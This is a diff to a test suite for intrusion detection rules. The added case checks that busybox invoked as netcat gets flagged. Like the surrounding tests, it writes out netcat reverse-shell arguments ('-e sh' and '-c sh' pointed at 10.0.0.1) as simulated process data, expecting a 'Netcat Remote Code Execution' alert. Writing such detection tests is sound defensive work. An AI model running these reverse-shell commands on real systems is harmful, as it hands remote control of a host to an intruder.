@@ -325,6 +325,16 @@ describe('the delivered rules', () => {
         host.exec(inContainer, { name: 'busybox', args: ['nc', '10.0.0.1', '1', '-e', 'sh'] }),
         rule,
       );
+      const applet = host.process({ name: 'sh', exe: '/bin/busybox', container: CONTAINER });
+      assert.deepEqual(
+        host.exec(applet, {
+          name: 'exe',
+          exe: '/bin/busybox',
+          argv0: 'nc',
+          args: ['-e', 'sh', '10.0.0.1', '1'],
+        }),
+        rule,
+      );
       assert.deepEqual(host.exec(shell, { name: 'nc', args: ['-c', 'sh', '10.0.0.1', '1'] }), [
         'Netcat Remote Code Execution on Host',
       ]);
